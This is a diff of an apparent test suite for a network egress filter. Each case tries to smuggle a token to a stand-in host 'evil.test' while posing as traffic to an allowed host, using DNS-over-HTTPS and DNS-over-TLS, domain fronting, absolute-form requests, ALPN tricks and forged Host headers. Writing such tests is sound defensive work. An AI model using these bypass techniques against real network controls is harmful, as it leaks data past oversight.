@@ -152,7 +152,7 @@ for port in (443, 8443):
 web("doh-by-name", "get(tls({evil!r}, 443, 'dns.evil.test'), 'dns.evil.test', '/dns-query?dns=' + T)", families=BOTH)
 web("doh-by-address", "get(tls({evil!r}, 443, None), lit({evil!r}), '/dns-query?dns=' + T)", families=BOTH)
 web("doh-post-to-a-read-host", "get(tls({good!r}, 443, 'read.test'), 'read.test', '/dns-query/' + T, 'POST', 'Content-Type: application/dns-message\\r\\nContent-Length: 1\\r\\n', 'x')", families=BOTH)
-web("dot", "get(tls({evil!r}, 853, None), 'x', T)", "wire")
+web("dns-over-tls-elsewhere", "tls({evil!r}, 853, None)", "flow-evil", BOTH)
 web("fronted-name-at-another-address", "get(tls({evil!r}, 443, 'read.test'), 'read.test', '/' + T)", "web-evil", BOTH)
 web("fronted-name-by-http", "get(conn({evil!r}, 80), 'read.test', '/' + T)", "web-evil", BOTH)
 for what, where, sni, host in (
@@ -167,7 +167,7 @@ for what, where, sni, host in (
 web("sni-is-an-address", "get(tls({good!r}, 443, '11.22.0.66'), '11.22.0.66', '/' + T)")
 web("absolute-form-of-another", "say(conn({evil!r}, 80), f'GET http://evil.test/{{T}} HTTP/1.1\\r\\nHost: read.test\\r\\n\\r\\n')", families=BOTH)
 web("absolute-form-in-tls", "say(tls({good!r}, 443, 'read.test'), f'GET https://evil.test/{{T}} HTTP/1.1\\r\\nHost: read.test\\r\\n\\r\\n')", families=BOTH)
-web("alpn-h2", "say(tls({evil!r}, 443, 'evil.test', ['h2']), 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n', T) and None; get(tls({evil!r}, 443, 'evil.test', ['h2', 'http/1.1']), 'evil.test', '/' + T); get(tls({evil!r}, 443, 'evil.test'), 'evil.test', '/' + T)")
+web("alpn-h2", "get(tls({evil!r}, 443, 'evil.test', ['http/1.1', 'h2']), 'evil.test', '/' + T)", families=BOTH)
 for what, fields in (
         ("two-hosts", "Host: read.test\\r\\nHost: evil.test\\r\\n"),
         ("no-host", "X: y\\r\\n"), ("host-with-user", "Host: read.test@evil.test\\r\\n"),
